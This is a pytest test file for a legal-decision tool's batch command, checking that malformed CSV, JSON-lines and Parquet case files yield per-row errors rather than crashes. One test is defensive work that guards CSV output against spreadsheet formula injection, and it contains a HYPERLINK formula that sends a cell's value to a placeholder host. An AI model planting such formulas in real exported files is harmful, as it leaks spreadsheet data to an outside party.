"""Bad case files never crash `batch`, `impact` or `trustlaw.batch`: a bad row gets its own
error (in the `error` column) and the other rows are decided; a file that cannot be read
at all is a usage error (exit 2) that leaves no partial output."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("duckdb", reason="the batch path needs the sql extra: pip install -e '.[sql]'")
pytest.importorskip("pyarrow", reason="the batch path needs pyarrow: pip install -e '.[sql]'")

import pyarrow as pa
import pyarrow.parquet as pq

import trustlaw
from trustlaw.caseload import text_lines
from trustlaw.cases.limits import MAX_CASE_CHARS
from trustlaw.cli import main
from trustlaw.diagnostics import UsageError, UsageTypeError

CT = "ct/pa-13-155"
CT19 = "ct/pa-19-20"
GOOD = b'{"date":"2015-03-02","id":"ok"}\n'


def _batch(tmp_path: Path, capsys: pytest.CaptureFixture[str], source: Path,
           out_name: str = "out.jsonl", *statutes: str) -> list[dict[str, Any]]:
    """`trustlaw batch` on `source`: it must succeed; the rows it wrote."""
    out = tmp_path / out_name
    code = main(["batch", *(statutes or (CT,)), "--cases", str(source), "--out", str(out)])
    _, err = capsys.readouterr()
    assert code == 0, err
    assert "internal error" not in err
    if out.suffix == ".parquet":
        return pq.read_table(out).to_pylist()
    if out.suffix == ".csv":
        with out.open(encoding="utf-8", newline="") as stream:
            return [{k: v or None for k, v in row.items()} for row in csv.DictReader(stream)]
    return [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def _decided(row: dict[str, Any]) -> bool:
    return row["error"] is None and row["hold"] is not None


# ---- 1. bytes that are not UTF-8 -----------------------------------------------------------

def test_a_json_line_that_is_not_utf8_is_its_rows_error_and_the_rest_run(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.jsonl", GOOD + b'{"date":"2015-\xff03-02"}\n' + GOOD)
    rows = _batch(tmp_path, capsys, source)
    assert [r["case_id"] for r in rows] == ["ok", "1", "ok"]
    assert rows[1]["error"] == "line 2 is not valid UTF-8 at byte 15 (0xff)"
    assert rows[1]["hold"] is None
    assert _decided(rows[0]) and _decided(rows[2])


def test_a_csv_cell_that_is_not_utf8_names_its_row_column_and_byte(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.csv",
                    b"id,date,agency\na,2015-03-02,co\xfeunty_jail\nb,2015-03-02,\n")
    rows = _batch(tmp_path, capsys, source)
    assert rows[0]["case_id"] == "a"  # the row's id is still read
    assert rows[0]["error"] == ("row 1, column `agency` is not valid UTF-8 at byte 3 (0xfe) "
                                "of the cell")
    assert rows[1]["case_id"] == "b" and _decided(rows[1])


def test_impact_and_the_python_api_count_a_non_utf8_line_as_an_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.jsonl", GOOD + b"\xff\n")
    assert main(["impact", CT, CT19, "--cases", str(source), "--format", "json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert (result["cases"], result["errors"]) == (2, 1)
    errors = trustlaw.batch(CT, source).column("error").to_pylist()
    assert errors == [None, "line 2 is not valid UTF-8 at byte 1 (0xff)"]


def test_a_csv_output_cell_a_spreadsheet_would_run_is_text(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A case id (or a statute's citation) such as `=HYPERLINK(…)` was written as it is,
    a live formula once the output opens in a spreadsheet."""
    ids = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "@SUM(A1)", "-2", "'=x", "plain"]
    source = _write(tmp_path, "cases.jsonl", b"".join(
        json.dumps({"id": i, "date": "2015-03-02"}).encode() + b"\n" for i in ids))
    rows = _batch(tmp_path, capsys, source, "out.csv")
    # an id that starts with an apostrophe gets one more, so `=x` and `'=x` stay apart
    assert [r["case_id"] for r in rows] == ["'" + i for i in ids[:5]] + ["plain"]
    # the other formats keep the value as it is
    assert [r["case_id"] for r in _batch(tmp_path, capsys, source, "out.jsonl")] == ids


@pytest.mark.parametrize("out_name", ["out.jsonl", "out.parquet"])
def test_a_stray_quote_in_a_csv_row_never_drops_the_rows_after_it(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], out_name: str) -> None:
    """The csv module reads an unclosed quote to the end of the file: rows 3 to 5 had no
    output row at all, and the summary counted 2 cases."""
    source = _write(tmp_path, "cases.csv", b"id,date,agency,convictions\n"
                    b"r1,2015-03-02,county_jail,[]\nr2,\"2015-03-02,county_jail,[]\n"
                    b"r3,2015-03-02,county_jail,[]\nr4,2015-03-02,county_jail,[]\n"
                    b'r5,2015-03-02,county_jail,"[\n]"\n')
    rows = _batch(tmp_path, capsys, source, out_name)
    assert [r["case_id"] for r in rows] == ["r1", "1", "r3", "r4", "r5"]
    assert rows[1]["error"] == (
        'row 2 has a `"` that opens a quoted cell running past the end of its line; the 3 '
        "lines it took in after its own are read as rows of their own")
    # a list's JSON over two lines, quoted, is one cell, as CSV has it
    assert all(_decided(rows[i]) for i in (0, 2, 3, 4))


@pytest.mark.parametrize("data, ids", [
    # the stray quote opens the row's last cell: the row it makes has the header's width
    (b"r1,2015-03-02,county_jail\nr2,2015-03-02,\"county_jail\nr3,2015-03-02,county_jail\n"
     b"r4,2015-03-02,county_jail\n", ["r1", "1", "r3", "r4"]),
    # two stray quotes far apart
    (b"r1,2015-03-02,\"county_jail\nr2,2015-03-02,county_jail\nr3,\"2015-03-02,county_jail\n"
     b"r4,2015-03-02,county_jail\n", ["0", "r2", "2", "r4"]),
    # a stray quote, then a line longer than any case
    (b"r1,\"2015-03-02,county_jail\nr2,2015-03-02,county_jail\nr3," + b"x" * 1_000_001
     + b"\nr4,2015-03-02,county_jail\n", ["0", "r2", "2", "r4"]),
])
def test_every_row_a_stray_quote_took_in_is_read_again(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], data: bytes,
        ids: list[str]) -> None:
    """A joined row of the header's width, or one stopped by an over-long line, still
    dropped the rows it had taken in (a review found 19,999 of 100,000 rows gone)."""
    rows = _batch(tmp_path, capsys, _write(tmp_path, "cases.csv", b"id,date,agency\n" + data))
    assert [r["case_id"] for r in rows] == ids
    for row in rows:  # the rows named by their id are read whole, the others are errors
        assert _decided(row) == row["case_id"].startswith("r"), row


def test_a_stray_quote_in_the_csv_header_is_a_usage_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.csv",
                    b'id,"date,agency\nr1,2015-03-02,county_jail\nr2,2015-03-02,x\n')
    out = tmp_path / "out.jsonl"
    assert main(["batch", CT, "--cases", str(source), "--out", str(out)]) == 2
    assert "its header has a `\"` that opens a quoted name" in capsys.readouterr().err


@pytest.mark.parametrize("column, error", [
    ("convictions.0.date", "row 1, column `convictions.0.date`: `convictions` is a list, "
                           "which a CSV file gives as one column holding the list as JSON"),
    ("person.age.x", "row 1, column `person.age.x`: `person.age` is a single value, with "
                     "no fields"),
    (".date", "row 1, column `.date`: a part of its name is empty"),
])
def test_a_csv_column_the_layout_has_no_room_for_is_named(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], column: str, error: str) -> None:
    """The case's own error lost the column: "convictions: expected a list, got an object"."""
    source = _write(tmp_path, "cases.csv", f"id,{column}\nr1,2015-01-01\n".encode())
    (row,) = _batch(tmp_path, capsys, source)
    assert row["case_id"] == "r1" and (row["error"] or "").startswith(error)


def test_a_byte_order_mark_starting_a_later_line_is_named(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Two JSON-lines files joined end to end: the second's mark read "not valid JSON at
    column 1: Expecting value"."""
    source = _write(tmp_path, "cases.jsonl", GOOD + b"\xef\xbb\xbf" + GOOD)
    rows = _batch(tmp_path, capsys, source)
    assert rows[1]["error"] == ("line 2 starts with a byte-order mark (U+FEFF), which only "
                                "a file's first line may")
    assert _decided(rows[0])


def test_a_byte_order_mark_is_not_part_of_the_first_column(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.csv", b"\xef\xbb\xbfid,date\na,2015-03-02\n")
    rows = _batch(tmp_path, capsys, source)
    assert rows[0]["case_id"] == "a" and _decided(rows[0])


# ---- 2, 3, 4. nesting and size ---------------------------------------------------------------

def test_a_csv_cell_nested_too_deep_is_its_rows_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    deep = "[" * 5000 + "]" * 5000
    source = _write(tmp_path, "cases.csv",
                    f'id,date,convictions\na,2015-03-02,"{deep}"\nb,2015-03-02,[]\n'.encode())
    rows = _batch(tmp_path, capsys, source)
    assert rows[0]["case_id"] == "a"
    assert rows[0]["error"].startswith("row 1, column `convictions`: ")
    assert "more than 64 levels deep" in rows[0]["error"]
    assert rows[1]["case_id"] == "b" and _decided(rows[1])


def test_a_csv_cell_past_the_csv_modules_limit_is_read_and_validated(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """131,073 characters: past `csv`'s default field limit, within a case's size."""
    source = _write(tmp_path, "cases.csv",
                    b"id,date,agency\na,2015-03-02," + b"x" * 131_073 + b"\nb,2015-03-02,\n")
    rows = _batch(tmp_path, capsys, source)
    assert rows[0]["case_id"] == "a" and rows[0]["error"].startswith("agency: ")
    assert _decided(rows[1])


def test_a_csv_row_longer_than_a_case_is_its_rows_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    big = b"x" * (MAX_CASE_CHARS + 10)
    source = _write(tmp_path, "cases.csv",
                    b"id,date,agency\na,2015-03-02," + big + b'\nb,2015-03-02,"' + big
                    + b'"\nc,2015-03-02,\n')
    rows = _batch(tmp_path, capsys, source)
    assert [r["case_id"] for r in rows] == ["0", "1", "c"]
    assert rows[0]["error"].startswith("row 1 is longer than 1,000,000 characters")
    assert rows[1]["error"].startswith("row 2 is longer than 1,000,000 characters")
    assert _decided(rows[2])


def test_a_huge_line_is_reported_too_long_without_being_read_whole(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """The limit made small: the line is skipped in pieces of 7 characters (a 3 GB line
    with no newline costs the same memory as a short one)."""
    monkeypatch.setattr(text_lines, "MAX_LINE", 100)
    monkeypatch.setattr(text_lines, "_SKIP_PIECE", 7)
    source = _write(tmp_path, "cases.jsonl", GOOD + b"[" * 10_000 + b"\n" + GOOD + b" " * 500)
    rows = _batch(tmp_path, capsys, source)
    assert [r["case_id"] for r in rows] == ["ok", "1", "ok", "3"]
    assert rows[1]["error"] == ("line 2 is longer than 100 characters, the most a case may "
                                "have (see the limits in docs/cases.md)")
    assert rows[3]["error"].startswith("line 4 is longer than 100 characters")
    assert _decided(rows[0]) and _decided(rows[2])


def test_a_json_line_past_the_case_limits_is_its_rows_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.jsonl",
                    b"[" * 100_000 + b"\n" + b'{"date":"2015-03-02","date":"2015-03-03"}\n'
                    + GOOD)
    rows = _batch(tmp_path, capsys, source)
    assert rows[0]["error"] == "line 1: the case nests arrays and objects more than 64 levels deep"
    assert rows[1]["error"] == 'line 2: the key "date" is given twice in one object'
    assert _decided(rows[2])


# ---- 5, 6. the CSV header and ragged rows ---------------------------------------------------

def test_a_csv_header_naming_a_column_twice_is_a_usage_error_with_no_output(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.csv", b"id,id,date\nfirst,second,2015-03-02\n")
    out = tmp_path / "out.jsonl"
    out.write_text("an earlier run\n", encoding="utf-8")
    assert main(["batch", CT, "--cases", str(source), "--out", str(out)]) == 2
    _, err = capsys.readouterr()
    assert f"error[TL-U005]: `{source}` cannot be read as cases: its header names the " \
           "column `id` twice" in err
    assert out.read_text(encoding="utf-8") == "an earlier run\n"  # not half overwritten
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cases.csv", "out.jsonl"]
    with pytest.raises(UsageError, match="names the column `id` twice"):
        trustlaw.batch(CT, source)


def test_a_row_with_more_or_fewer_cells_than_the_header_is_its_rows_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.csv",
                    b"id,date\na,2015-03-02,county_jail,true\nb\nc,2015-03-02\n")
    rows = _batch(tmp_path, capsys, source, "out.csv")
    assert [r["case_id"] for r in rows] == ["a", "b", "c"]
    assert rows[0]["error"] == "row 1 has 4 cells, but the header has 2 columns"
    assert rows[1]["error"] == "row 2 has 1 cell, but the header has 2 columns"
    assert rows[0]["hold"] is None and _decided(rows[2])


# ---- 7, 8. ids -------------------------------------------------------------------------------

def test_a_parquet_id_that_is_not_a_string_is_each_rows_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """As `decide` refuses {"id": 5}: the id is a string in every format (docs/batch.md)."""
    source = tmp_path / "cases.parquet"
    pq.write_table(pa.table({"id": pa.array([100, 200], pa.int64()),
                             "date": ["2015-03-02", "2015-03-02"]}), source)
    rows = _batch(tmp_path, capsys, source)
    assert [r["case_id"] for r in rows] == ["0", "1"]
    assert rows[0]["error"].startswith("id: expected a string")
    assert "got 100" in rows[0]["error"]
    strings = tmp_path / "named.parquet"
    pq.write_table(pa.table({"id": ["a", None], "date": ["2015-03-02", "2015-03-02"]}), strings)
    rows = trustlaw.batch(CT, strings).to_pylist()
    assert [r["case_id"] for r in rows] == ["a", "1"] and all(map(_decided, rows))


def test_a_bad_json_cell_keeps_its_rows_id(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.csv", b'id,date,convictions\na,2015-03-02,'
                    b'"[{""level"":""felony"",""level"":""violation""}]"\nb,2015-03-02,[oops\n')
    rows = _batch(tmp_path, capsys, source)
    assert [r["case_id"] for r in rows] == ["a", "b"]
    assert rows[0]["error"] == ('row 1, column `convictions`: the key "level" is given twice '
                                "in one object")
    assert rows[1]["error"].startswith("row 2, column `convictions` is not valid JSON at column")


@pytest.mark.parametrize("out_name", ["out.jsonl", "out.csv", "out.parquet"])
def test_a_lone_surrogate_in_an_id_is_an_error_row_written_escaped(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], out_name: str) -> None:
    source = _write(tmp_path, "cases.jsonl",
                    GOOD + b'{"date":"2015-03-02","id":"\\ud800"}\n' + GOOD)
    rows = _batch(tmp_path, capsys, source, out_name)
    assert [r["case_id"] for r in rows] == ["ok", "\\ud800", "ok"]  # the whole file
    assert rows[1]["error"].startswith("id: ") and rows[1]["hold"] is None
    assert _decided(rows[0]) and _decided(rows[2])
    table = trustlaw.batch(CT, source).to_pylist()
    assert table[1]["case_id"] == "\\ud800" and table[1]["error"].startswith("id: ")


# ---- 10. what `cases` must be, and where the output goes -------------------------------------

@pytest.mark.parametrize("cases", [None, 5, b"cases.jsonl", {"date": "2015-03-02"}])
def test_batch_given_cases_of_the_wrong_type_says_what_they_must_be(cases: Any) -> None:
    with pytest.raises(UsageTypeError) as caught:
        trustlaw.batch(CT, cases)
    assert caught.value.diagnostics[0].code == "TL-U020"
    assert "batch(cases=…) takes a case file's name (a str or Path), an iterable of case " \
           "dicts (a list of dicts, not one dict) or a table of cases (pyarrow, pandas or " \
           "polars), not" in str(caught.value)


def test_an_output_in_a_missing_folder_is_a_usage_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _write(tmp_path, "cases.jsonl", GOOD)
    out = tmp_path / "missing" / "out.jsonl"
    assert main(["batch", CT, "--cases", str(source), "--out", str(out)]) == 2
    _, err = capsys.readouterr()
    assert f"error[TL-U005]: `{out}` could not be written: No such file or directory" in err


def test_a_jurisdiction_refuses_a_bad_case_with_every_problem_not_its_date_alone() -> None:
    """Choosing the law by the case's date stopped at the date: a misspelt "Date" read as
    a missing date, a list as a case without one, and the case's other problems went
    unsaid until the date was fixed (found by review)."""
    import trustlaw

    cases = [{"Date": "2015-03-02"}, {"date": "x", "foo": 1, "person": {"age": "3"}}, [1],
             {"agency": "municipal_police"}]
    results = list(trustlaw.decide_many("ct", cases, on_error="record"))
    assert [list(r.errors) for r in results] == [
        ["Date: not a field of the case; did you mean date?"],
        ["foo: not a field of the case (its fields are date, arrest_date, agency, "
         "reimbursement_agreement, local_policy_bars_hold, request, person, warrants, "
         "charges, convictions, id)", 'date: expected an ISO date, got "x"',
         'person.age: expected a whole number, got "3"'],
        ["case: expected an object with the fields of a case, got a list"],
        ["date: unknown, and the law in force is chosen by the case's date"],
    ]


def test_decide_many_chooses_a_jurisdictions_law_by_each_cases_date() -> None:
    import trustlaw

    cases = [{"date": "2015-03-02", "agency": "municipal_police"},
             {"date": "2020-03-02", "agency": "municipal_police"},
             {"date": "2026-03-02", "agency": "municipal_police"},
             {"agency": "municipal_police"}]
    results = list(trustlaw.decide_many("ct", cases, on_error="record"))
    assert [r.statute for r in results] == ["ct/pa-13-155", "ct/pa-19-20", "ct/pa-25-29", "ct"]
    assert "date: unknown" in results[3].errors[0]
    fixed = list(trustlaw.decide_many("ct", cases, on="2016-05-01"))
    assert {d.statute for d in fixed} == {"ct/pa-13-155"}
